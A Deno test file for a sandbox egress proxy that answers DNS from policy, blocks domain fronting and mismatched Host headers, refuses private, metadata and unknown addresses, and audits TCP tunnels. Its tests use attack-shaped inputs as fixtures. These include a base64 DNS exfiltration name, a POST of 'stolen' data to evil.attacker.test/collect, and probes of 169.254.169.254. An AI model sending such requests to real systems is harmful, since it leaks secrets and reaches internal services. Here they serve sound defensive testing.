/**
 * Transparent egress at the injector: what the in-sandbox bridge (or a
 * program speaking its protocol with Deno's walls lowered) can make the
 * injector do. Names are answered from the policy alone with the run's
 * own loopback addresses (no resolver is ever asked), a connection is
 * decided on the name its address was given to (never SNI or Host), an
 * address no lookup returned is refused, and TCP rules open plain tunnels
 * through the address guard, each audited with its bytes.
 */

import assert from "node:assert/strict";
import { DNS_RCODE, DNS_TYPE, encodeDnsQuery } from "./_dns.ts";
import { BRIDGE_PROTOCOL } from "./bridge.ts";
import { SyntheticNames } from "./synthetic_names.ts";
import type { Resolver } from "./resolver.ts";
import {
  concatBytes,
  fixedResolver,
  HttpConn,
  nodeStream,
  openTunnel,
  sharedTestPki,
  startProxy,
  startUpstream,
  waitFor,
} from "../tests/kits/injector.ts";
import {
  openDnsChannel,
  openTransparent,
  openTransparentTls,
  readUntil,
  startTcpEcho,
} from "../tests/kits/bridge.ts";

const SECRET = "sk-test-7d2f9a4c1e3b5860";

/** A resolver that records every name it is asked (none may be). */
function spyResolver(map: Record<string, string[]> = {}): {
  resolver: Resolver;
  asked: string[];
} {
  const asked: string[] = [];
  const inner = fixedResolver(map);
  return {
    asked,
    resolver: (host) => {
      asked.push(host);
      return inner(host);
    },
  };
}

Deno.test("bridge DNS: every name is answered inside from the policy alone, one address per name per run; no resolver is asked", async () => {
  const spy = spyResolver();
  await using proxy = await startProxy({
    network: { allow: ["api.example.test"] },
    resolver: spy.resolver,
  });
  await using dns = await openDnsChannel(proxy.path);
  const api = await dns.ask("api.example.test");
  assert.equal(api.rcode, DNS_RCODE.ok);
  assert.match(api.address ?? "", /^127\.(6[4-9]|[7-9]\d|1[01]\d|12[0-7])\./);
  // The same name in another spelling is the same name.
  assert.equal((await dns.ask("API.Example.TEST.")).address, api.address);
  // An exfiltration-shaped name gets an address too, and goes nowhere.
  const exfil = "c2VjcmV0LXZhbHVlLTAxMjM0NTY3.exfil.attacker.test";
  const refused = await dns.ask(exfil);
  assert.equal(refused.rcode, DNS_RCODE.ok);
  assert.ok(refused.address && refused.address !== api.address);
  // IPv4 only: no AAAA record, for any name.
  const aaaa = await dns.ask("api.example.test", DNS_TYPE.AAAA);
  assert.deepEqual([aaaa.rcode, aaaa.address], [DNS_RCODE.ok, null]);
  assert.deepEqual(spy.asked, [], "no resolver was asked for any name");
  const records = proxy.events.filter((e) => e.kind === "dns");
  // Refusals are recorded, as asked; an allowed name's lookup is not (the
  // connection that follows is).
  assert.equal(
    records.filter((e) => e.host.toLowerCase() === "api.example.test").length,
    0,
  );
  const [exfilRecord] = records.filter((e) => e.host === exfil);
  assert.equal(exfilRecord?.decision, "deny");
  assert.equal(exfilRecord?.answer, refused.address);
  assert.match(exfilRecord?.reason ?? "", /airlock's network policy/);
});

Deno.test("bridge DNS: queries that are not a plain host name are refused or dropped, never given an address", async () => {
  await using proxy = await startProxy({ network: "allow-all" });
  await using dns = await openDnsChannel(proxy.path);
  // A label with bytes no host name has.
  const binary = encodeDnsQuery(1, "xx.example.test", DNS_TYPE.A);
  binary[13] = 0x00;
  binary[14] = 0xff;
  const cases: [string, Uint8Array, number | null][] = [
    ["binary label", binary, DNS_RCODE.refused],
    ["IP-shaped name", encodeDnsQuery(2, "10.0.0.1", 1), DNS_RCODE.refused],
    // A compression pointer where the name starts.
    [
      "pointer",
      concatBytes([
        encodeDnsQuery(3, "", 1).subarray(0, 12),
        Uint8Array.of(
          0xc0,
          0x0c,
          0,
          1,
          0,
          1,
        ),
      ]),
      DNS_RCODE.formErr,
    ],
    [
      "two questions",
      (() => {
        const q = encodeDnsQuery(4, "a.example.test", 1);
        q[5] = 2;
        return q;
      })(),
      DNS_RCODE.formErr,
    ],
    [
      "truncated name",
      encodeDnsQuery(5, "a.example.test", 1).subarray(0, 16),
      DNS_RCODE.formErr,
    ],
    [
      "a response, not a query",
      (() => {
        const q = encodeDnsQuery(6, "a.example.test", 1);
        q[2] = 0x80;
        return q;
      })(),
      null,
    ],
    ["short header", Uint8Array.of(1, 2, 3), null],
  ];
  for (const [what, query, rcode] of cases) {
    const reply = await dns.raw(query, rcode === null ? 300 : 5_000);
    if (rcode === null) {
      assert.equal(reply, null, `${what}: no answer`);
      continue;
    }
    assert.ok(reply, `${what}: answered`);
    assert.equal(reply.rcode, rcode, what);
    assert.equal(reply.address, null, what);
  }
  // The channel still answers afterwards.
  assert.equal((await dns.ask("ok.example.test")).rcode, DNS_RCODE.ok);
  const malformed = proxy.events.filter((e) =>
    e.kind === "dns" && e.decision === "deny"
  );
  assert.ok(malformed.length >= cases.length - 1, "each one is audited");
  // A frame longer than any query ends the channel (not the bridge's).
  const frame = new Uint8Array(6);
  new DataView(frame.buffer).setUint16(4, 60_000);
  dns.send(frame);
  await dns.closed;
});

Deno.test("transparent HTTPS is decided on the looked-up name and injected; SNI or Host naming another host gets 421", async () => {
  const pki = await sharedTestPki();
  const api = startUpstream({ tls: pki });
  await using _api = api;
  await using proxy = await startProxy({
    network: {
      allow: {
        "api.example.test": [{
          transform: [{ headers: { Authorization: "Bearer ${secret:T}" } }],
        }],
        "other.example.test": [],
      },
    },
    secretValues: { T: SECRET },
    connectTo: [`api.example.test:443:127.0.0.1:${api.port}`],
    caCerts: [pki.caPem],
  });
  await using dns = await openDnsChannel(proxy.path);
  const address = (await dns.ask("api.example.test")).address!;
  const other = (await dns.ask("other.example.test")).address!;
  const conn = await openTransparentTls(proxy.path, address, 443, {
    servername: "api.example.test",
    ca: proxy.caPem,
  });
  const ok = await conn.request({
    method: "GET",
    target: "/v1/me",
    headers: [["Host", "api.example.test"], ["Authorization", "mine"]],
  });
  conn.close();
  assert.equal(ok.status, 200);
  assert.deepEqual(
    api.requests[0]!.headers.filter(([n]) =>
      n.toLowerCase() === "authorization"
    ),
    [["Authorization", `Bearer ${SECRET}`]],
  );
  const connect = await proxy.waitForEvent((e) =>
    e.kind === "connect" && e.via === "transparent"
  );
  assert.equal(connect.host, "api.example.test");
  assert.equal(connect.decision, "allow");
  // Domain fronting: the address of one name, TLS naming another. The
  // leaf is for the looked-up name; the request is refused.
  const fronted = await openTransparent(proxy.path, other, 443);
  const { default: tls } = await import("node:tls");
  const secure = tls.connect({
    socket: fronted,
    servername: "api.example.test",
    ca: proxy.caPem,
    // The leaf names other.example.test, not the SNI: checked below.
    checkServerIdentity: () => undefined,
  });
  await new Promise((resolve) => secure.once("secureConnect", resolve));
  secure.on("error", () => {});
  assert.match(
    String(secure.getPeerCertificate().subject?.CN ?? ""),
    /other\.example\.test/,
  );
  const misdirected = await new HttpConn(nodeStream(secure)).request({
    method: "GET",
    target: "/",
    headers: [["Host", "api.example.test"]],
  });
  assert.equal(misdirected.status, 421);
  assert.equal(misdirected.get("x-airlock-error"), "misdirected");
  // Host naming another host inside the right TLS.
  const hostLie = await openTransparentTls(proxy.path, other, 443, {
    servername: "other.example.test",
    ca: proxy.caPem,
  });
  const lied = await hostLie.request({
    method: "GET",
    target: "/",
    headers: [["Host", "api.example.test"]],
  });
  hostLie.close();
  assert.equal(lied.status, 421);
  assert.equal(api.requests.length, 1, "nothing else reached the upstream");
});

Deno.test("transparent connection to a name the policy refuses gets airlock's 403 over TLS, naming the policy", async () => {
  await using proxy = await startProxy({
    network: { allow: ["api.example.test"] },
  });
  await using dns = await openDnsChannel(proxy.path);
  const address = (await dns.ask("evil.attacker.test")).address!;
  const conn = await openTransparentTls(proxy.path, address, 443, {
    servername: "evil.attacker.test",
    ca: proxy.caPem,
  });
  const response = await conn.request({
    method: "POST",
    target: "/collect",
    headers: [["Host", "evil.attacker.test"]],
    body: "stolen",
  });
  conn.close();
  assert.equal(response.status, 403);
  assert.equal(response.get("x-airlock-error"), "blocked-by-policy");
  assert.match(
    response.text,
    /^airlock: .*evil\.attacker\.test.*not in the allowlist/,
  );
  const denied = proxy.events.filter((e) =>
    e.host === "evil.attacker.test" && e.decision === "deny"
  );
  assert.deepEqual(
    denied.map((e) => e.kind).sort(),
    ["connect", "dns", "request"],
  );
});

Deno.test("transparent connection to an address no lookup of the run returned is refused and audited (scans of the range, other runs' addresses)", async () => {
  await using proxy = await startProxy({ network: "allow-all" });
  await using other = await startProxy({ network: "allow-all" });
  // Another run looked a name up: its address means nothing here.
  await using otherDns = await openDnsChannel(other.path);
  const theirs = (await otherDns.ask("api.example.test")).address!;
  const cases: [string, number][] = [
    [theirs, 443],
    ["127.64.0.77", 443],
    ["127.127.255.254", 80],
    ["10.0.0.1", 443],
    ["127.0.0.1", 443],
    ["169.254.169.254", 80],
  ];
  for (const [address, port] of cases) {
    const socket = await openTransparent(proxy.path, address, port);
    socket.write("GET / HTTP/1.1\r\nHost: x\r\n\r\n");
    const { text, ended } = await readUntil(socket, () => false);
    assert.equal(text, "", `${address}: nothing answered`);
    assert.ok(ended, `${address}: closed`);
  }
  await waitFor(
    () =>
      proxy.events.filter((e) => e.rule === "unknown-address").length ===
        cases.length || undefined,
    "one record per refused address",
  );
  // A line that is not the bridge's, on the same socket.
  for (
    const line of [
      `\0${BRIDGE_PROTOCOL} tcp 127.64.0.1 99999\n`,
      `\0other/1 dns\n`,
      `\0${"x".repeat(200)}\n`,
    ]
  ) {
    const socket = await openTransparent(proxy.path, "", 0, line);
    assert.ok((await readUntil(socket, () => false)).ended);
  }
  await waitFor(
    () =>
      proxy.events.filter((e) => e.rule === "bad-bridge-line").length === 3 ||
      undefined,
    "bad bridge lines audited",
  );
});

Deno.test("TCP rule: bytes tunnelled both ways untouched (no TLS termination, no injection), one audit record with bytes and duration", async () => {
  await using echo = startTcpEcho("+OK ready\r\n");
  await using proxy = await startProxy({
    network: {
      allow: {
        "db.example.test": [{
          transform: [{ headers: { Authorization: "Bearer ${secret:T}" } }],
        }],
      },
      tcp: ["db.example.test:6379"],
    },
    secretValues: { T: SECRET },
    connectTo: [`db.example.test:6379:127.0.0.1:${echo.port}`],
  });
  await using dns = await openDnsChannel(proxy.path);
  const address = (await dns.ask("db.example.test")).address!;
  const socket = await openTransparent(proxy.path, address, 6379);
  assert.match((await readUntil(socket, (t) => t.includes("\n"))).text, /\+OK/);
  // TLS bytes go through as they are: nothing here terminates them.
  const payload = "\x16\x03\x01 PING Authorization: x\r\n";
  socket.write(payload);
  const echoed = await readUntil(socket, (t) => t.includes("x\r\n"));
  assert.equal(echoed.text, payload);
  socket.end();
  const record = await proxy.waitForEvent((e) => e.kind === "tcp");
  assert.deepEqual(
    {
      host: record.host,
      port: record.port,
      decision: record.decision,
      rule: record.rule,
      via: record.via,
      bytesOut: record.bytesOut,
      bytesIn: record.bytesIn,
      injected: record.injected,
    },
    {
      host: "db.example.test",
      port: 6379,
      decision: "allow",
      rule: "db.example.test:6379",
      via: "transparent",
      bytesOut: payload.length,
      bytesIn: payload.length + "+OK ready\r\n".length,
      injected: [],
    },
  );
  assert.ok(record.durationMs >= 0);
  // Attack: the same name on a port without a TCP rule: closed, audited.
  const closed = await openTransparent(proxy.path, address, 6380);
  assert.ok((await readUntil(closed, () => false)).ended);
  const refused = await proxy.waitForEvent((e) =>
    e.kind === "tcp" && e.port === 6380
  );
  assert.deepEqual([refused.decision, refused.rule], [
    "deny",
    "not-in-tcp-rules",
  ]);
  assert.equal(echo.connections, 1);
});

Deno.test("TCP rule: the address guard refuses a name that resolves to a private, loopback or metadata address; nothing is dialled", async () => {
  await using echo = startTcpEcho();
  const spy = spyResolver({
    "meta.example.test": ["169.254.169.254"],
    "private.example.test": ["10.1.2.3"],
    "loop.example.test": ["127.0.0.1"],
  });
  await using proxy = await startProxy({
    network: {
      allow: [],
      tcp: [
        "meta.example.test:5432",
        "private.example.test:5432",
        "loop.example.test:5432",
      ],
    },
    resolver: spy.resolver,
  });
  await using dns = await openDnsChannel(proxy.path);
  for (const name of ["meta", "private", "loop"]) {
    const host = `${name}.example.test`;
    const address = (await dns.ask(host)).address!;
    const socket = await openTransparent(proxy.path, address, 5432);
    assert.ok((await readUntil(socket, () => false)).ended, host);
    const record = await proxy.waitForEvent((e) =>
      e.kind === "tcp" && e.host === host
    );
    assert.equal(record.decision, "deny", host);
    assert.match(record.reason ?? "", /blocked addresses/, host);
  }
  // Resolved by the injector (the harness side) once each, never dialled.
  assert.deepEqual(spy.asked.sort(), [
    "loop.example.test",
    "meta.example.test",
    "private.example.test",
  ]);
  assert.equal(echo.connections, 0);
});

Deno.test("TCP rule through the proxy: CONNECT to the rule's host:port opens a plain tunnel; other ports stay HTTP", async () => {
  await using echo = startTcpEcho();
  await using proxy = await startProxy({
    network: { allow: [], tcp: ["db.example.test:5432"] },
    connectTo: [`db.example.test:5432:127.0.0.1:${echo.port}`],
  });
  const tunnel = await openTunnel(proxy.path, "db.example.test:5432");
  assert.equal(tunnel.status, 200);
  tunnel.socket.resume();
  tunnel.socket.write("hello\n");
  assert.equal(
    (await readUntil(tunnel.socket, (t) => t.includes("\n"))).text,
    "hello\n",
  );
  tunnel.socket.end();
  const record = await proxy.waitForEvent((e) => e.kind === "tcp");
  assert.deepEqual([record.via, record.bytesOut, record.bytesIn], [
    "proxy",
    6,
    6,
  ]);
  const refused = await openTunnel(proxy.path, "db.example.test:5433");
  refused.socket.destroy();
  assert.equal(refused.status, 403);
});

Deno.test("bridge DNS: a run's name table is bounded: past it no address is given, earlier names keep theirs", () => {
  // Attack: a flood of unique names (each lookup is harness memory).
  const names = new SyntheticNames({ limit: 2 });
  const first = names.addressFor("a.example.test");
  assert.ok(first);
  assert.ok(names.addressFor("b.example.test"));
  assert.equal(names.addressFor("c.example.test"), null);
  assert.equal(names.addressFor("a.example.test"), first);
  assert.equal(names.nameAt(first), "a.example.test");
  // Addresses never end in .0 or .255 (network and broadcast to some clients).
  const many = new SyntheticNames({ limit: 600 });
  for (let i = 0; i < 600; i++) {
    assert.doesNotMatch(many.addressFor(`n${i}.example.test`)!, /\.(0|255)$/);
  }
  assert.throws(() => new SyntheticNames({ limit: 0 }), RangeError);
});
